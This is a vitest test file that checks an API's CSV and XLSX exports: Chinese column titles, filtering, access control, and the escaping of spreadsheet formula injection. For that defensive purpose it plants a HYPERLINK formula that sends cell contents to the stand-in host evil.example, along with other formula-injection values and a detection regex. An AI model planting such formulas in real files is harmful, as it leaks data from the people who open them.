import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import { beforeAll, expect, test } from 'vitest';
import { type Cast, castOf } from '../fuzz/support/cast.ts';
import { Life } from '../fuzz/support/life.ts';
import { MovableClock } from '../fuzz/support/movable-clock.ts';
import { commonTime } from '../fuzz/support/stops.ts';
import { type Answered, type Caller, world } from './support.ts';

const clock = new MovableClock();
const w = world({ clock });
let cast: Cast;
let projectId: string;
const planted = '=HYPERLINK("http://evil.example/?x="&A1,"看这里")';

beforeAll(async () => {
  await clock.set(w, commonTime);
  cast = await castOf(w);
  projectId = (await new Life(w, cast, clock, 'settlement').live()).id;
  await clock.set(w, commonTime);
  const { bodyId, officer, finance } = cast;
  for (let n = 0; n < 3; n += 1) {
    await officer.post('/api/v1/needs', {
      bodyId,
      title: `${planted}${n}`,
      category: 'training',
      headcount: 20,
      raisedOn: '2026-09-01',
      source: '@SUM(1+1)',
      unit: '-2+3',
      detail: '\t=1+1',
    });
  }
  await finance.post('/api/v1/funding-lines', {
    bodyId,
    code: '+86',
    name: planted,
    year: 2026,
    kind: 'union',
    amount: '1200.50',
  });
  await officer.post('/api/v1/targets', { bodyId, kind: 'contact', minimum: 5 });
}, 60_000);

const parsed = ({ body }: Answered) =>
  parse(String(body), { bom: true, relax_column_count: true }) as string[][];

async function sheetOf(caller: Caller, url: string): Promise<unknown[][]> {
  const answer = await w.app.inject({ url, headers: { authorization: `Bearer ${caller.key}` } });
  expect(answer.statusCode, url).toBe(200);
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(answer.rawPayload as never);
  const rows: unknown[][] = [];
  workbook.worksheets[0]?.eachRow((row) => rows.push((row.values as unknown[]).slice(1)));
  return rows;
}

const danger = /^[=+\-@＝＋－＠\t\r\n]/;
const isNumber = /^[+-]?\d+(\.\d+)?$/;

/** Every GET route that the running app describes, with ids that exist. */
async function lists(): Promise<{ url: string; caller: Caller; items: unknown[] }[]> {
  const { paths } = (await w.nobody.get('/openapi.json')).body as { paths: Record<string, object> };
  const organisationId = cast.suppliers[0].organisationId;
  const first = async (url: string) => (await w.admin.get(url)).body.items?.[0]?.id as string;
  const ids: Record<string, string> = {
    projects: projectId,
    organisations: organisationId,
    bodies: cast.bodyId,
    users: cast.officer.userId,
    'funding-lines': await first('/api/v1/funding-lines'),
    targets: await first('/api/v1/targets'),
  };
  const found = [];
  for (const [path, methods] of Object.entries(paths)) {
    if (!('get' in methods) || !path.startsWith('/api/v1')) continue;
    const id = ids[path.split('/')[3] ?? ''] ?? projectId;
    const url = path.replace('{id}', id).replace(/\{[^}]+\}/g, id);
    for (const caller of [w.admin, cast.officer]) {
      const { status, body } = await caller.get(url);
      if (status === 200 && Array.isArray(body.items)) {
        found.push({ url, caller, items: body.items });
        break;
      }
    }
  }
  return found;
}

test('every list of the API comes as CSV and as XLSX, with Chinese titles, and no cell begins a formula', async () => {
  const all = await lists();
  expect(all.length).toBeGreaterThan(30);
  const untitled = new Set<string>();
  for (const { url, caller, items } of all) {
    const answer = await caller.get(`${url}?format=csv`);
    expect(answer.status, url).toBe(200);
    expect(answer.headers['content-type'], url).toMatch(/^text\/csv/);
    const [titles = [], ...rows] = parsed(answer);
    expect(rows.length, url).toBeGreaterThanOrEqual(items.length);
    const cells = [titles, ...rows].flat();
    expect(
      cells.filter((cell) => danger.test(cell) && !isNumber.test(cell)),
      url,
    ).toEqual([]);
    for (const title of titles) if (/^[a-z][A-Za-z]*$/.test(title)) untitled.add(`${url} ${title}`);
    const sheet = await sheetOf(caller, `${url}?format=xlsx`);
    expect(sheet.length, url).toBe(rows.length + 1);
    for (const cell of sheet.flat())
      expect(typeof cell === 'string' && danger.test(cell) && !isNumber.test(cell), String(cell)).toBe(false);
  }
  // A field without a word is exported under its English name: say what it means in the schema of the answer.
  expect([...untitled]).toEqual([]);
}, 60_000);

test('an export holds the whole filtered list, whatever the page size, and what the caller may see of it', async () => {
  const { officer, foreigner } = cast;
  const url = '/api/v1/needs?q=HYPERLINK&limit=1&format=csv';
  expect(parsed(await officer.get(url))).toHaveLength(4);
  // An empty list is a file with titles.
  const [titles = [], ...none] = parsed(await foreigner.get(url));
  expect(titles).toContain('需求名称');
  expect(none).toEqual([]);
  expect(parsed(await officer.get('/api/v1/contacts/overdue?format=csv'))[0]).toContain('逾期天数');
  expect(parsed(await officer.get(`/api/v1/projects/${projectId}/challenges?format=csv`))).toHaveLength(1);
  expect((await w.nobody.get(url)).status).toBe(401);
  expect((await officer.get('/api/v1/needs?format=csv&colour=red')).status).toBe(422);
});

test('a file has names and no ids, and the same columns whatever is in it', async () => {
  const uuid = /^[0-9a-f]{8}(-[0-9a-f]{4}){3}-[0-9a-f]{12}$/;
  const url = '/api/v1/needs?format=csv';
  const [titles = [], ...rows] = parsed(await cast.officer.get(url));
  expect(rows.length).toBeGreaterThan(0);
  expect(rows.flat().filter((cell) => uuid.test(cell))).toEqual([]);
  expect(titles).toEqual(expect.arrayContaining(['需求名称', '采购单位', '项目', '登记人']));
  const body = rows[0]?.[titles.indexOf('采购单位')];
  expect(body).toBe((await cast.officer.get(`/api/v1/bodies/${cast.bodyId}`)).body.name);
  expect(parsed(await cast.foreigner.get(url))).toEqual([titles]);
});

test('planted formulas come out as text behind an apostrophe; numbers stay numbers', async () => {
  const [titles = [], row = []] = parsed(await cast.officer.get('/api/v1/needs?q=HYPERLINK&format=csv'));
  const cell = (title: string) => row[titles.indexOf(title)];
  expect(cell('需求名称')).toBe(`'${planted}2`);
  expect(cell('来源')).toBe("'@SUM(1+1)");
  expect(cell('单位')).toBe("'-2+3");
  expect(cell('人数')).toBe('20');
  expect(cell('服务类别')).toBe('技能培训');
  const lines = await sheetOf(cast.finance, '/api/v1/funding-lines?q=HYPERLINK&format=xlsx');
  expect(lines[1]?.[lines[0]?.indexOf('金额（元）') ?? -1]).toBe(1200.5);
});

test('values that officers have words for are exported in words; figures in one cell too', async () => {
  const ledger = parsed(await cast.officer.get('/api/v1/organisations?format=csv')).flat();
  expect(ledger).toContain('候选');
  expect(ledger).not.toContain('candidate');
  const [held] = (await cast.finance.get('/api/v1/funding-lines')).body.items.filter(
    ({ committed }: { committed: string }) => committed !== '0.00',
  );
  const entries = parsed(await cast.finance.get(`/api/v1/funding-lines/${held.id}/entries?format=csv`));
  expect(entries.flat()).toContain('签约');
  expect(entries.flat().join()).toMatch(/占用变动：[\d.-]+；签约变动：[\d.-]+；支付变动：[\d.-]+/);
});

test('the language of the titles is the reader’s; Accept asks for a file as well as format does', async () => {
  const answer = await cast.officer.get('/api/v1/needs', { accept: 'text/csv', 'accept-language': 'en' });
  expect(answer.headers['content-disposition']).toBe('attachment; filename="needs-2026-09-23.csv"');
  expect(parsed(answer)[0]).toContain('Headcount');
  const plain = await cast.officer.get('/api/v1/needs', { accept: 'text/html,*/*' });
  expect(plain.body.items).toBeDefined();
});

test('what is no list, and a format that nobody writes, are refused with a sentence', async () => {
  const one = await cast.officer.get(`/api/v1/projects/${projectId}?format=csv`);
  expect([one.status, one.body.reasons?.[0]?.rule]).toEqual([422, 'export.no-list']);
  const other = await cast.officer.get('/api/v1/needs?format=pdf');
  expect([other.status, other.body.errors?.[0]?.pointer]).toEqual([422, '/format']);
});
